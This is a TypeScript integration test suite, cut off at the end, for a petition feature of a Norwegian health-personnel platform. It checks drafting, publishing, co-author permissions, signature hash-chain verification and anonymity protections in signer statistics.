import { type Endpoint, osloToday, petitionEndpoints as ep, postEndpoints } from '@legenett/contracts';
import { schema } from '@legenett/db';
import { and, eq } from 'drizzle-orm';
import { AccountDataService } from '../../common/account-data';
import { createTestApp, type TestApp, uniqueToken } from '../../../test/app';
import { createCompany, createUser, tokenFor } from '../../../test/auth';
import { type Answer, type BodyIn, type Caller, invalid } from '../../../test/call';
import { insertReferenceFixtures } from '../../../test/fixtures';
import { settleJobs } from '../../../test/jobs';
import { PetitionRemindersService } from './petition-reminders.service';
import { isMilestone } from './petitions.service';

type Fixtures = Awaited<ReturnType<typeof insertReferenceFixtures>>;

let t: TestApp;
let fx: Fixtures;
let token: string;
let categoryId: number;

beforeAll(async () => {
  t = await createTestApp();
  token = uniqueToken();
  fx = await insertReferenceFixtures(t.db, token);
  const [category] = await t.db
    .insert(schema.categories)
    .values({
      code: `pc-${token}`,
      type: 'petition',
      name: { no: `Arbeidsvilkår ${token}`, en: `Working conditions ${token}` },
    })
    .returning();
  categoryId = category!.id;
});
afterAll(async () => {
  await t.close();
});

const day = (offset: number) => {
  const d = new Date(`${osloToday()}T12:00:00Z`);
  d.setUTCDate(d.getUTCDate() + offset);
  return d.toISOString().slice(0, 10);
};

type CreateBody = BodyIn<typeof ep.create>;

const draftBody = (overrides: Partial<CreateBody> = {}): CreateBody => ({
  title: `Forsvarlig arbeidstid ${token}`,
  summary: 'Leger i spesialisering trenger forsvarlige arbeidsplaner.',
  full_text: 'Vi krever at helseforetakene følger arbeidsmiljøloven.',
  category_id: categoryId,
  specialty_ids: [fx.specialty.id],
  end_date: day(30),
  signature_goal: 100,
  recipient: 'Helse- og omsorgsdepartementet',
  ...overrides,
});

async function draft(me: Caller, overrides: Partial<CreateBody> = {}) {
  const res = await t.call(ep.create, { as: me, body: draftBody(overrides) });
  expect(res.status).toBe(201);
  return res.parsed.data;
}

async function published(me: Caller, overrides: Partial<CreateBody> = {}) {
  const d = await draft(me, overrides);
  const res = await t.call(ep.update, { as: me, params: { id: d.id }, body: { visibility: 'open' } });
  expect(res.status).toBe(200);
  return res.parsed.data;
}

const signedBy = async (petitionId: number, n: number) => {
  for (let i = 0; i < n; i += 1) {
    const signer = await t.session();
    expect((await t.call(ep.sign, { as: signer, params: { id: petitionId }, body: {} })).status).toBe(201);
  }
};

describe('drafts, publishing and the transition table', () => {
  it('creates a draft, shows it only to its authors, publishes, closes and archives it', async () => {
    const me = await t.session();
    const other = await t.session();
    const d = await draft(me);
    expect(d).toMatchObject({
      status: 'draft',
      is_owner: true,
      can_edit: true,
      signature_goal: 100,
      recipient: 'Helse- og omsorgsdepartementet',
      category: { id: categoryId },
      specialties: [{ id: fx.specialty.id }],
      text_locked: false,
    });
    // A draft is the authors' only: others (and visitors) get 404, and it is in nobody's list.
    expect((await t.call(ep.show, { as: other, params: { id: d.id } })).status).toBe(404);
    expect((await t.call(ep.show, { as: null, params: { id: d.id } })).status).toBe(404);
    const drafts = await t.call(ep.mine, { as: me, query: { petitionStatus: 'draft' } });
    expect(drafts.parsed.data.map((p) => p.id)).toEqual([d.id]);
    expect(
      (await t.call(ep.list, { as: other, query: { search: token } })).parsed.data.map((p) => p.id),
    ).not.toContain(d.id);

    const pub = await t.call(ep.update, { as: me, params: { id: d.id }, body: { visibility: 'open' } });
    expect(pub.parsed.data).toMatchObject({ status: 'active', visibility: 'open', days_left: 30 });
    expect(pub.parsed.data.published_at).not.toBeNull();
    expect((await t.call(ep.show, { as: null, params: { id: d.id } })).status).toBe(200);

    const closed = await t.call(ep.update, { as: me, params: { id: d.id }, body: { status: 'closed' } });
    expect(closed.parsed.data).toMatchObject({ status: 'closed', days_left: null });
    // closed -> closed or -> active is not in the table.
    expect(
      (await t.call(ep.update, { as: me, params: { id: d.id }, body: { status: 'closed' } })).status,
    ).toBe(409);
    expect(
      (await t.call(ep.update, { as: me, params: { id: d.id }, body: { visibility: 'open' } })).parsed.data
        .status,
    ).toBe('closed');

    const archived = await t.call(ep.update, {
      as: me,
      params: { id: d.id },
      body: { visibility: 'archived' },
    });
    expect(archived.parsed.data).toMatchObject({ is_archived: true, visibility: 'archived' });
    expect(
      (await t.call(ep.update, { as: me, params: { id: d.id }, body: { visibility: 'open' } })).status,
    ).toBe(409);
    const mineArchived = await t.call(ep.mine, { as: me, query: { petitionStatus: 'archived' } });
    expect(mineArchived.parsed.data.map((p) => p.id)).toEqual([d.id]);
    expect((await t.call(ep.mine, { as: me })).parsed.data).toEqual([]);
  });

  it('refuses publishing without the text or with an end date that is not in the future', async () => {
    const me = await t.session();
    const bare = await draft(me, { summary: '', full_text: '', end_date: null });
    const res = await t.call(ep.update, {
      as: me,
      params: { id: bare.id },
      body: { visibility: 'open' },
      locale: 'en',
    });
    expect(res.status).toBe(422);
    expect(Object.keys(res.validation.errors).sort()).toEqual(['end_date', 'full_text', 'summary']);
    expect(res.validation.errors.summary).toEqual(['Required before the petition is published.']);

    const past = await t.call(ep.update, {
      as: me,
      params: { id: bare.id },
      body: { end_date: day(0) },
      locale: 'no',
    });
    expect(past.status).toBe(422);
    expect(past.validation.errors.end_date).toEqual(['Sluttdatoen må være etter i dag.']);
    // Archiving a draft is not a transition of the table.
    expect(
      (await t.call(ep.update, { as: me, params: { id: bare.id }, body: { visibility: 'archived' } })).status,
    ).toBe(409);
    expect(
      (await t.call(ep.update, { as: me, params: { id: bare.id }, body: { status: 'closed' } })).status,
    ).toBe(409);
  });

  it('reads an active petition past its end date as finished, which can be archived but not closed', async () => {
    const me = await t.session();
    const p = await published(me);
    await t.db
      .update(schema.petitions)
      .set({ end_date: day(-1) })
      .where(eq(schema.petitions.id, p.id));
    const shown = await t.call(ep.show, { as: me, params: { id: p.id } });
    expect(shown.parsed.data).toMatchObject({ status: 'finished', days_left: null });
    const finished = await t.call(ep.list, { as: me, query: { search: token, petitionStatus: 'finished' } });
    expect(finished.parsed.data.map((x) => x.id)).toContain(p.id);
    expect(
      (await t.call(ep.update, { as: me, params: { id: p.id }, body: { status: 'closed' } })).status,
    ).toBe(409);
    const signer = await t.session();
    const late = await t.call(ep.sign, { as: signer, params: { id: p.id }, body: {}, locale: 'en' });
    expect(late.status).toBe(409);
    expect(late.error.message).toBe('The petition is not open for signatures.');
    expect(
      (await t.call(ep.update, { as: me, params: { id: p.id }, body: { visibility: 'archived' } })).status,
    ).toBe(200);
  });

  it('locks the text after the first signature (409) but lets the owner fix it before', async () => {
    const me = await t.session();
    const p = await published(me);
    const fixed = await t.call(ep.update, {
      as: me,
      params: { id: p.id },
      body: { title: `Forsvarlig arbeidstid for LIS ${token}` },
    });
    expect(fixed.status).toBe(200);
    await signedBy(p.id, 1);
    const locked = await t.call(ep.update, {
      as: me,
      params: { id: p.id },
      body: { full_text: 'Nye ord' },
      locale: 'en',
    });
    expect(locked.status).toBe(409);
    expect(locked.error.message).toBe('The text cannot change after someone has signed the petition.');
    // Other fields (and the same text) still change.
    const goal = await t.call(ep.update, {
      as: me,
      params: { id: p.id },
      body: { signature_goal: 500, title: `Forsvarlig arbeidstid for LIS ${token}` },
    });
    expect(goal.parsed.data).toMatchObject({ signature_goal: 500, text_locked: true });
    const row = await t.db.select().from(schema.petitions).where(eq(schema.petitions.id, p.id));
    expect(row[0]!.full_text).toBe(p.full_text);
  });

  it('deletes only drafts (with their attachments); a published petition is archived instead', async () => {
    const me = await t.session();
    const d = await draft(me);
    const p = await published(me);
    const refused = await t.call(ep.remove, { as: me, params: { id: p.id }, locale: 'en' });
    expect(refused.status).toBe(409);
    expect(refused.error.message).toBe(
      'Only drafts can be deleted. A published petition is archived instead.',
    );
    expect((await t.call(ep.remove, { as: me, params: { id: d.id } })).status).toBe(204);
    expect(await t.db.select().from(schema.petitions).where(eq(schema.petitions.id, d.id))).toEqual([]);
  });

  it('writes a post linking the petition on the owner page when post_on_my_page is set', async () => {
    const me = await t.session();
    const p = await published(me, { post_on_my_page: true });
    const posts = await t.db.select().from(schema.posts).where(eq(schema.posts.shared_petition_id, p.id));
    expect(posts).toHaveLength(1);
    expect(posts[0]).toMatchObject({ author_user_id: me.user.id });
    const post = await t.call(postEndpoints.show, { as: await t.session(), params: { id: posts[0]!.id } });
    expect(post.parsed.data.shared_petition).toEqual({ id: p.id, title: p.title });
    // It can be shared further like any post.
    const share = await t.call(postEndpoints.share, {
      as: await t.session(),
      params: { id: posts[0]!.id },
      body: {},
    });
    expect(share.status).toBe(201);
    const quiet = await published(me);
    expect(
      await t.db.select().from(schema.posts).where(eq(schema.posts.shared_petition_id, quiet.id)),
    ).toEqual([]);
  });

  it('refuses bad input with localised 422s, never 5xx', async () => {
    const me = await t.session();
    const res = await t.call(ep.create, {
      as: me,
      body: invalid({
        ...draftBody(),
        title: 'x',
        signature_goal: -3,
        end_date: 'tomorrow',
        specialty_ids: 'all',
      }),
      locale: 'en',
    });
    expect(res.status).toBe(422);
    expect(Object.keys(res.validation.errors).sort()).toEqual([
      'end_date',
      'signature_goal',
      'specialty_ids',
      'title',
    ]);
    const unknown = await t.call(ep.create, {
      as: me,
      body: draftBody({ category_id: fx.jobCategory.id, specialty_ids: [987654321] }),
    });
    expect(unknown.status).toBe(422);
    expect(Object.keys(unknown.validation.errors).sort()).toEqual(['category_id', 'specialty_ids']);
    expect((await t.call(ep.create, { as: me, body: draftBody({ end_date: day(-2) }) })).status).toBe(422);
    expect((await t.call(ep.show, { as: me, params: invalid({ id: 'abc' }) })).status).toBe(422);
    expect((await t.call(ep.list, { as: me, query: invalid({ petitionStatus: 'gone' }) })).status).toBe(422);
    expect((await t.call(ep.list, { as: me, query: invalid({ petitionSpecialties: 'x,y' }) })).status).toBe(
      422,
    );
    expect(
      (await t.call(ep.update, { as: me, params: { id: 1 }, body: invalid({ visibility: 'hidden' }) }))
        .status,
    ).toBe(422);
    expect(
      (await t.call(ep.sign, { as: me, params: { id: 1 }, body: invalid({ anonymous: 'maybe' }) })).status,
    ).toBe(422);
  });
});

describe('who may call what', () => {
  it('answers 401, 403 with reasons, 404 for other owners and unknown ids', async () => {
    const owner = await t.session();
    const p = await published(owner);
    const d = await draft(owner);
    const other = await t.session();
    const pending = await t.session({ status: 'awaiting_approval' });
    const inReview = await t.session({ status: 'in_review' });
    const companyUser = await createUser(t.db);
    const company = await createCompany(t.db, { managers: [companyUser.id] });
    const business = await tokenFor(t, companyUser, { actAs: company.id });

    // One typed call per endpoint (each descriptor with its own input), refused alike for every gate.
    type Gate = { status: number; error: { reason?: string } };
    const calls: readonly [Endpoint, (as: Caller | null) => Promise<Gate>][] = [
      [ep.list, (as) => t.call(ep.list, { as })],
      [ep.mine, (as) => t.call(ep.mine, { as })],
      [ep.bookmarked, (as) => t.call(ep.bookmarked, { as })],
      [ep.create, (as) => t.call(ep.create, { as, body: draftBody() })],
      [ep.update, (as) => t.call(ep.update, { as, params: { id: p.id }, body: { signature_goal: 7 } })],
      [ep.remove, (as) => t.call(ep.remove, { as, params: { id: d.id } })],
      [ep.sign, (as) => t.call(ep.sign, { as, params: { id: p.id }, body: {} })],
      [ep.withdraw, (as) => t.call(ep.withdraw, { as, params: { id: p.id } })],
      [ep.signatures, (as) => t.call(ep.signatures, { as, params: { id: p.id } })],
      [ep.bookmark, (as) => t.call(ep.bookmark, { as, params: { id: p.id } })],
      [ep.manualAuthors, (as) => t.call(ep.manualAuthors, { as, params: { id: p.id } })],
      [
        ep.removeManualAuthor,
        (as) => t.call(ep.removeManualAuthor, { as, params: { id: p.id, authorId: 1 } }),
      ],
      [ep.attachments, (as) => t.call(ep.attachments, { as, params: { id: p.id } })],
    ];
    for (const [endpoint, call] of calls) {
      expect([endpoint.path, (await call(null)).status]).toEqual([endpoint.path, 401]);
      expect([endpoint.path, (await call(pending)).error.reason]).toEqual([
        endpoint.path,
        'account_not_approved',
      ]);
      expect([endpoint.path, (await call(inReview)).error.reason]).toEqual([
        endpoint.path,
        'account_in_review',
      ]);
      if ('personal' in endpoint)
        expect([endpoint.path, (await call(business)).error.reason]).toEqual([
          endpoint.path,
          'business_profile_active',
        ]);
    }

    // Another user: the owner's endpoints answer 404 and change nothing.
    for (const res of [
      await t.call(ep.update, { as: other, params: { id: p.id }, body: { signature_goal: 7 } }),
      await t.call(ep.update, { as: other, params: { id: d.id }, body: { visibility: 'open' } }),
      await t.call(ep.remove, { as: other, params: { id: d.id } }),
      await t.call(ep.manualAuthors, { as: other, params: { id: p.id } }),
      await t.call(ep.attachments, { as: other, params: { id: p.id } }),
      await t.call(ep.deliver, { as: other, params: { id: p.id } }),
    ]) {
      expect(res.status).toBe(404);
    }
    expect((await t.call(ep.show, { as: owner, params: { id: d.id } })).parsed.data.status).toBe('draft');
    expect((await t.call(ep.show, { as: owner, params: { id: p.id } })).parsed.data.signature_goal).toBe(100);

    // Unknown ids.
    for (const res of [
      await t.call(ep.show, { as: owner, params: { id: 987654321 } }),
      await t.call(ep.update, { as: owner, params: { id: 987654321 }, body: {} }),
      await t.call(ep.remove, { as: owner, params: { id: 987654321 } }),
      await t.call(ep.sign, { as: owner, params: { id: 987654321 }, body: {} }),
      await t.call(ep.withdraw, { as: owner, params: { id: 987654321 } }),
      await t.call(ep.bookmark, { as: owner, params: { id: 987654321 } }),
      await t.call(ep.verify, { as: null, params: { id: 987654321 } }),
      await t.call(ep.signatures, { as: owner, params: { id: 987654321 } }),
    ]) {
      expect(res.status).toBe(404);
    }
    // Signing someone's draft: it does not exist for them.
    expect((await t.call(ep.sign, { as: other, params: { id: d.id }, body: {} })).status).toBe(404);
  });

  it('lets only confirmed health personnel sign (403 not_health_personnel)', async () => {
    const owner = await t.session();
    const p = await published(owner);
    const unconfirmed = await t.session({ approvedHrp: 1 });
    const res = await t.call(ep.sign, { as: unconfirmed, params: { id: p.id }, body: {}, locale: 'en' });
    expect(res.status).toBe(403);
    expect(res.error.reason).toBe('not_health_personnel');
    expect((await t.call(ep.show, { as: owner, params: { id: p.id } })).parsed.data.signatures_count).toBe(0);
  });
});

describe('co-authors', () => {
  it('invites an account, shows it once accepted, and lets the co-author edit the draft but not delete it', async () => {
    const owner = await t.session();
    const colleague = await t.session();
    const d = await draft(owner);
    const manual = await t.call(ep.addManualAuthor, {
      as: owner,
      params: { id: d.id },
      body: { name: 'Marte Olsen', title: 'Lege' },
    });
    expect(manual.status).toBe(201);
    expect(manual.parsed.data).toMatchObject({
      name: 'Marte Olsen',
      title: 'Lege',
      user: null,
      accepted: true,
    });
    const invite = await t.call(ep.addManualAuthor, {
      as: owner,
      params: { id: d.id },
      body: { name: 'Kollega', title: 'LIS', user_id: colleague.user.id },
    });
    expect(invite.parsed.data).toMatchObject({ accepted: false, user: { id: colleague.user.id } });
    expect(
      (
        await t.call(ep.addManualAuthor, {
          as: owner,
          params: { id: d.id },
          body: { name: 'Igjen', user_id: colleague.user.id },
        })
      ).status,
    ).toBe(422);
    expect(
      (
        await t.call(ep.addManualAuthor, {
          as: owner,
          params: { id: d.id },
          body: { name: 'Ingen', user_id: 987654321 },
        })
      ).status,
    ).toBe(422);
    await settleJobs(t);
    const notes = await t.db
      .select()
      .from(schema.notifications)
      .where(
        and(
          eq(schema.notifications.user_id, colleague.user.id),
          eq(schema.notifications.kind, 'petition_co_author'),
        ),
      );
    expect(notes).toHaveLength(1);

    // Invited, not accepted: they may read the draft to decide, not edit it; others still get 404.
    expect((await t.call(ep.show, { as: colleague, params: { id: d.id } })).parsed.data).toMatchObject({
      invitation_pending: true,
      can_edit: false,
    });
    expect(
      (await t.call(ep.update, { as: colleague, params: { id: d.id }, body: { summary: 'Nei' } })).status,
    ).toBe(404);
    expect((await t.call(ep.show, { as: await t.session(), params: { id: d.id } })).status).toBe(404);
    expect(
      (await t.call(ep.acceptCoAuthorship, { as: colleague, params: { id: d.id } })).parsed.data.accepted,
    ).toBe(true);
    expect(
      (await t.call(ep.acceptCoAuthorship, { as: await t.session(), params: { id: d.id } })).status,
    ).toBe(404);
    const seen = await t.call(ep.show, { as: colleague, params: { id: d.id } });
    expect(seen.parsed.data).toMatchObject({ can_edit: true, is_owner: false, invitation_pending: false });
    expect(seen.parsed.data.co_authors.map((a) => a.name)).toEqual(['Marte Olsen', 'Kollega']);
    const edited = await t.call(ep.update, {
      as: colleague,
      params: { id: d.id },
      body: { summary: 'Bedre sammendrag' },
    });
    expect(edited.parsed.data.summary).toBe('Bedre sammendrag');
    expect(
      (await t.call(ep.mine, { as: colleague, query: { petitionStatus: 'draft' } })).parsed.data.map(
        (x) => x.id,
      ),
    ).toEqual([d.id]);
    const refused = await t.call(ep.remove, { as: colleague, params: { id: d.id } });
    expect(refused.status).toBe(403);
    expect(refused.error.reason).toBe('not_owner');
    expect(
      (await t.call(ep.manualAuthors, { as: colleague, params: { id: d.id } })).parsed.data,
    ).toHaveLength(2);
  });

  it('leaves state and the author list to the initiator: a co-author cannot publish, close, archive or invite', async () => {
    const owner = await t.session();
    const colleague = await t.session();
    const d = await draft(owner);
    await t.call(ep.addManualAuthor, { as: owner, params: { id: d.id }, body: { name: 'Kollega', user_id: colleague.user.id } });
    await t.call(ep.acceptCoAuthorship, { as: colleague, params: { id: d.id } });
    const refused = async (body: BodyIn<typeof ep.update>) => {
      const res = await t.call(ep.update, { as: colleague, params: { id: d.id }, body });
      return [res.status, res.error.reason];
    };
    expect(await refused({ visibility: 'open' })).toEqual([403, 'not_owner']);
    expect((await t.call(ep.update, { as: owner, params: { id: d.id }, body: { visibility: 'open' } })).status).toBe(200);
    expect(await refused({ status: 'closed' })).toEqual([403, 'not_owner']);
    // The hostile tester's case: archiving is final, and DELETE already refused co-authors.
    expect(await refused({ visibility: 'archived' })).toEqual([403, 'not_owner']);
    expect(await refused({ summary: 'Ny tekst', visibility: 'archived' })).toEqual([403, 'not_owner']);
    const shown = (await t.call(ep.show, { as: owner, params: { id: d.id } })).parsed.data;
    expect(shown).toMatchObject({ status: 'active', is_archived: false });
    expect(shown.summary).not.toBe('Ny tekst');
    // A plain edit stays open to co-authors.
    expect((await t.call(ep.update, { as: colleague, params: { id: d.id }, body: { recipient: 'Stortinget' } })).parsed.data.recipient).toBe('Stortinget');
    // Inviting further co-authors, named or with an account, is the initiator's.
    const third = await t.session();
    for (const body of [{ name: 'Tredje', user_id: third.user.id }, { name: 'Uten konto', title: 'Overlege' }]) {
      const res = await t.call(ep.addManualAuthor, { as: colleague, params: { id: d.id }, body });
      expect([res.status, res.error.reason]).toEqual([403, 'not_owner']);
    }
    expect((await t.call(ep.manualAuthors, { as: owner, params: { id: d.id } })).parsed.data.map((a) => a.name)).toEqual(['Kollega']);
    await settleJobs(t);
    expect(await t.db.select().from(schema.notifications).where(eq(schema.notifications.user_id, third.user.id))).toEqual([]);
  });

  it('removes co-authors: the initiator until the first signature, a co-author themselves at any time', async () => {
    const owner = await t.session();
    const colleague = await t.session();
    const invitee = await t.session();
    const stranger = await t.session();
    const d = await draft(owner);
    const add = async (body: { name: string; user_id: number | null }) =>
      (await t.call(ep.addManualAuthor, { as: owner, params: { id: d.id }, body: { title: null, ...body } }))
        .parsed.data.id;
    const manual = await add({ name: 'Uten konto', user_id: null });
    const colleagueAuthor = await add({ name: 'Kollega', user_id: colleague.user.id });
    const inviteeAuthor = await add({ name: 'Invitert', user_id: invitee.user.id });
    const other = await add({ name: 'Fjernes', user_id: null });
    await t.call(ep.acceptCoAuthorship, { as: colleague, params: { id: d.id } });
    const names = async () =>
      (await t.call(ep.manualAuthors, { as: owner, params: { id: d.id } })).parsed.data.map((a) => a.name);

    // Someone who cannot see the draft: 404 (and nothing changes); bad ids: 422; unknown: 404.
    expect(
      (await t.call(ep.removeManualAuthor, { as: stranger, params: { id: d.id, authorId: manual } })).status,
    ).toBe(404);
    expect(
      (await t.call(ep.removeManualAuthor, { as: owner, params: invalid({ id: d.id, authorId: 'x' }) }))
        .status,
    ).toBe(422);
    expect(
      (await t.call(ep.removeManualAuthor, { as: owner, params: { id: d.id, authorId: 987654321 } })).status,
    ).toBe(404);
    expect(
      (await t.call(ep.removeManualAuthor, { as: owner, params: { id: 987654321, authorId: manual } }))
        .status,
    ).toBe(404);
    // A co-author of another petition cannot be removed through this one.
    const elsewhere = await draft(stranger);
    const foreign = (
      await t.call(ep.addManualAuthor, {
        as: stranger,
        params: { id: elsewhere.id },
        body: { name: 'Annen', title: null, user_id: null },
      })
    ).parsed.data.id;
    expect(
      (await t.call(ep.removeManualAuthor, { as: owner, params: { id: d.id, authorId: foreign } })).status,
    ).toBe(404);
    // An accepted co-author removes nobody else.
    const refused = await t.call(ep.removeManualAuthor, {
      as: colleague,
      params: { id: d.id, authorId: manual },
    });
    expect(refused.status).toBe(403);
    expect(refused.error.reason).toBe('not_owner');
    expect(await names()).toEqual(['Uten konto', 'Kollega', 'Invitert', 'Fjernes']);

    // The initiator removes one; the invitee declines (their invitation was never accepted).
    expect(
      (await t.call(ep.removeManualAuthor, { as: owner, params: { id: d.id, authorId: other } })).status,
    ).toBe(204);
    expect(
      (await t.call(ep.removeManualAuthor, { as: invitee, params: { id: d.id, authorId: inviteeAuthor } }))
        .status,
    ).toBe(204);
    expect((await t.call(ep.show, { as: invitee, params: { id: d.id } })).status).toBe(404);
    expect(await names()).toEqual(['Uten konto', 'Kollega']);

    // Published and signed: the initiator can no longer remove anyone (409), the co-author may still leave.
    await t.call(ep.update, { as: owner, params: { id: d.id }, body: { visibility: 'open' } });
    await signedBy(d.id, 1);
    const locked = await t.call(ep.removeManualAuthor, {
      as: owner,
      params: { id: d.id, authorId: manual },
      locale: 'en',
    });
    expect(locked.status).toBe(409);
    expect(locked.error.message).toBe('Co-authors cannot be removed after someone has signed the petition.');
    expect(
      (
        await t.call(ep.removeManualAuthor, {
          as: colleague,
          params: { id: d.id, authorId: colleagueAuthor },
        })
      ).status,
    ).toBe(204);
    expect(
      (await t.call(ep.show, { as: stranger, params: { id: d.id } })).parsed.data.co_authors.map(
        (a) => a.name,
      ),
    ).toEqual(['Uten konto']);
    // No longer an author: the owner's endpoints are 404 for them.
    expect((await t.call(ep.manualAuthors, { as: colleague, params: { id: d.id } })).status).toBe(404);
  });
});

describe('signatures', () => {
  it('pages the named signers by keyset (cursor), in signing order, without the anonymous ones, each with their badge', async () => {
    const owner = await t.session();
    const p = await published(owner);
    const slugs: string[] = [];
    const ids: number[] = [];
    for (let i = 0; i < 5; i += 1) {
      // The last one a medical student with a licence: the badge says so.
      const signer = await t.session(i === 4 ? { roles: ['student'] } : {});
      await t.call(ep.sign, { as: signer, params: { id: p.id }, body: { anonymous: i === 2 } });
      if (i !== 2) slugs.push(signer.user.slug);
      ids.push(signer.user.id);
    }
    // A signer whose confirmation was later withdrawn keeps the signature, not the badge.
    await t.db.update(schema.userInfo).set({ approved_hrp: 1 }).where(eq(schema.userInfo.user_id, ids[1]!));
    const seen: string[] = [];
    const badges: (string | null)[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const res: Answer<typeof ep.signatures> = await t.call(ep.signatures, {
        as: owner,
        params: { id: p.id },
        query: { per_page: 3, ...(cursor ? { cursor } : {}) },
      });
      expect(res.parsed.meta.per_page).toBe(3);
      seen.push(...res.parsed.data.map((s) => s.slug ?? ''));
      badges.push(...res.parsed.data.map((s) => s.verified_as));
      cursor = res.parsed.meta.next_cursor;
      pages += 1;
    } while (cursor !== null && pages < 5);
    expect(pages).toBe(2);
    expect(seen).toEqual(slugs);
    expect(badges).toEqual(['doctor', null, 'doctor', 'student']);

    // A cursor that is not one of ours, or a page size over the cap: 422 in the caller's language.
    const bad = await t.call(ep.signatures, {
      as: owner,
      params: { id: p.id },
      query: invalid({ cursor: 'not-a-cursor' }),
      locale: 'en',
    });
    expect(bad.status).toBe(422);
    expect(Object.keys(bad.validation.errors)).toEqual(['cursor']);
    expect(
      (await t.call(ep.signatures, { as: owner, params: { id: p.id }, query: invalid({ per_page: 500 }) }))
        .status,
    ).toBe(422);
    // Someone else's draft does not exist for the caller.
    const d = await draft(owner);
    expect((await t.call(ep.signatures, { as: await t.session(), params: { id: d.id } })).status).toBe(404);
  });

  it('keeps one signature when the same account signs several times at once', async () => {
    const owner = await t.session();
    const p = await published(owner);
    const signer = await t.session();
    const answers = await Promise.all(
      Array.from({ length: 6 }, () => t.call(ep.sign, { as: signer, params: { id: p.id }, body: {} })),
    );
    expect(answers.map((a) => a.status).sort()).toEqual([201, 409, 409, 409, 409, 409]);
    expect((await t.call(ep.verify, { as: null, params: { id: p.id } })).parsed.data).toMatchObject({
      intact: true,
      length: 1,
      count_matches: true,
      signatures_count: 1,
    });
  });

  it('signs once, counts, lists named signers, gives a receipt, withdraws as a chain link, and the chain verifies', async () => {
    const owner = await t.session();
    const p = await published(owner, { specialty_ids: [] });
    const a = await t.session({ roles: ['doctor'] });
    const b = await t.session({ roles: ['student'] });
    const signedA = await t.call(ep.sign, { as: a, params: { id: p.id }, body: {} });
    expect(signedA.status).toBe(201);
    expect(signedA.parsed.data).toMatchObject({ position: 1, signatures_count: 1, anonymous: false });
    expect(signedA.parsed.data.hash).toMatch(/^[0-9a-f]{64}$/);
    const again = await t.call(ep.sign, { as: a, params: { id: p.id }, body: {}, locale: 'en' });
    expect(again.status).toBe(409);
    expect(again.error.message).toBe('You have already signed this petition.');
    expect(
      (await t.call(ep.sign, { as: b, params: { id: p.id }, body: { anonymous: true } })).parsed.data
        .position,
    ).toBe(2);

    const shown = await t.call(ep.show, { as: a, params: { id: p.id } });
    expect(shown.parsed.data).toMatchObject({ signatures_count: 2, signed: true, text_locked: true });
    const signers = await t.call(ep.signatures, { as: owner, params: { id: p.id } });
    expect(signers.parsed.meta.next_cursor).toBeNull();
    expect(signers.parsed.data).toEqual([
      expect.objectContaining({ slug: a.user.slug, profession: 'doctor', verified_as: 'doctor' }),
    ]);
    expect((await t.call(ep.receipt, { as: a, params: { id: p.id } })).parsed.data).toMatchObject({
      position: 1,
      hash: signedA.parsed.data.hash,
    });
    expect((await t.call(ep.receipt, { as: owner, params: { id: p.id } })).status).toBe(404);

    expect((await t.call(ep.withdraw, { as: a, params: { id: p.id } })).status).toBe(204);
    expect((await t.call(ep.withdraw, { as: a, params: { id: p.id } })).status).toBe(404);
    const verified = await t.call(ep.verify, { as: null, params: { id: p.id } });
    expect(verified.parsed.data).toMatchObject({
      intact: true,
      length: 3,
      broken_at: null,
      count_matches: true,
      signatures_count: 1,
    });
    const links = await t.db
      .select()
      .from(schema.petitionSignatureLinks)
      .where(eq(schema.petitionSignatureLinks.petition_id, p.id));
    expect(links.map((l) => l.action).sort()).toEqual(['sign', 'sign', 'withdraw']);

    // Tampering with any link is found.
    await t.db
      .update(schema.petitionSignatureLinks)
      .set({ created_at: new Date(Date.now() - 86_400_000) })
      .where(
        and(
          eq(schema.petitionSignatureLinks.petition_id, p.id),
          eq(schema.petitionSignatureLinks.position, 2),
        ),
      );
    const broken = await t.call(ep.verify, { as: null, params: { id: p.id } });
    expect(broken.parsed.data).toMatchObject({ intact: false, broken_at: 2 });

    // Withdrawing after the petition closed is refused.
    await t.call(ep.update, { as: owner, params: { id: p.id }, body: { status: 'closed' } });
    expect((await t.call(ep.withdraw, { as: b, params: { id: p.id } })).status).toBe(409);
  });

  it('folds groups under 5 into one unnamed "other (fewer than 5 each)", and draws a daily curve', async () => {
    const owner = await t.session();
    const p = await published(owner);
    for (let i = 0; i < 6; i += 1) {
      const signer = await t.session({ roles: ['doctor'] });
      await t.db
        .insert(schema.userSpecialties)
        .values({ user_id: signer.user.id, specialty_id: fx.specialty.id });
      await t.db
        .update(schema.userInfo)
        .set({ county_id: fx.county.id })
        .where(eq(schema.userInfo.user_id, signer.user.id));
      await t.call(ep.sign, { as: signer, params: { id: p.id }, body: {} });
    }
    const student = await t.session({ roles: ['student'] });
    await t.call(ep.sign, { as: student, params: { id: p.id }, body: {} });
    const stats = (await t.call(ep.show, { as: null, params: { id: p.id }, locale: 'en' })).parsed.data
      .statistics;
    // Groups under 5 are never named: one "other (fewer than 5 each)".
    expect(stats.by_profession).toEqual([
      { key: 'doctor', name: 'Doctor', count: 6 },
      { key: 'other_small', name: 'Other (fewer than 5 each)', count: null },
    ]);
    expect(stats.by_specialty).toEqual([
      { key: String(fx.specialty.id), name: `Internal medicine ${token}`, count: 6 },
      { key: 'other_small', name: 'Other (fewer than 5 each)', count: null },
    ]);
    expect(stats.by_county[0]).toEqual({ key: String(fx.county.id), name: `East County ${token}`, count: 6 });
    expect(stats.daily).toEqual([{ day: osloToday(), count: 7 }]);
  });

  it('never isolates an anonymous signer: a "gynaecologist in Vestfold" is neither named nor seen by comparing snapshots', async () => {
    const owner = await t.session();
    const p = await published(owner);
    const [gyn] = await t.db.insert(schema.specialties).values({ code: `gyn-${token}`, name: { no: `Gynekologi ${token}`, en: `Gynaecology ${token}` } }).returning();
    const [vestfold] = await t.db.insert(schema.counties).values({ code: `vf-${token}`, name: { no: `Vestfold ${token}`, en: `Vestfold ${token}` } }).returning();
    const signer = async (specialty: number, county: number, anonymous: boolean) => {
      const me = await t.session({ roles: ['doctor'] });
      await t.db.insert(schema.userSpecialties).values({ user_id: me.user.id, specialty_id: specialty });
      await t.db.update(schema.userInfo).set({ county_id: county }).where(eq(schema.userInfo.user_id, me.user.id));
      expect((await t.call(ep.sign, { as: me, params: { id: p.id }, body: { anonymous } })).status).toBe(201);
    };
    const snapshot = async () => (await t.call(ep.show, { as: null, params: { id: p.id }, locale: 'en' })).parsed.data;
    for (let i = 0; i < 6; i += 1) await signer(fx.specialty.id, fx.county.id, false);
    const before = await snapshot();

    // The known person signs anonymously, from a specialty and a county nobody else signed from.
    await signer(gyn!.id, vestfold!.id, true);
    const after = await snapshot();
    expect(after.signatures_count).toBe(before.signatures_count + 1);
    // Held back until four more anonymous signers make a batch: the two snapshots show the same groups.
